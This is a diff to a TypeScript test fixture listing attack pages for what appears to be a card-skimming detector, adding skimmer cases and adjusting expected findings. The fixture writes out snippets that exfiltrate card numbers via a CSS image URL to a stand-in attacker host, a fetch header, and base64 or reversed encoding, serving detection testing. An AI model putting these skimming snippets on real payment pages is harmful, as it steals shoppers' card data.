@@ -1,6 +1,7 @@
 import { EVIL, RAW_FORM, STRIPE_FRAME, type PageCase } from './page-case.ts';
+import { SKIMMER_PAGES } from './skimmer-pages.ts';
 
-const LEAVES = ['page-card-data-leaves'];
+const LEAVES = ['page-card-data-leaves evil.example'];
 const NUMBER = "document.getElementById('number')";
 
 /** An attack on a raw form whose script is at `EVIL`, or inline. */
@@ -44,7 +45,9 @@ export const ATTACK_PAGES: readonly PageCase[] = [
     'exfiltration by CSS',
     AT_CHANGE(`document.body.style.backgroundImage = 'url(${EVIL}/x.png?c=' + v + ')';`),
   ),
-  onForm('exfiltration in a header', AT_CHANGE("fetch('/a', { headers: { 'x-d': v } });")),
+  onForm('exfiltration in a header', AT_CHANGE("fetch('/a', { headers: { 'x-d': v } });"), [
+    'page-card-data-leaves shop.example header',
+  ]),
   onForm('exfiltration in base64', SEND + AT_CHANGE('send(btoa(v))')),
   onForm('exfiltration reversed', SEND + AT_CHANGE("send([...v].reverse().join(''))")),
   onForm(
@@ -164,4 +167,5 @@ export const ATTACK_PAGES: readonly PageCase[] = [
     body: RAW_FORM.replace('/pay', 'http://shop.example/pay'),
     expected: ['page-card-field-outside-provider', 'page-raw-card-form', 'page-http-form'],
   },
+  ...SKIMMER_PAGES,
 ];
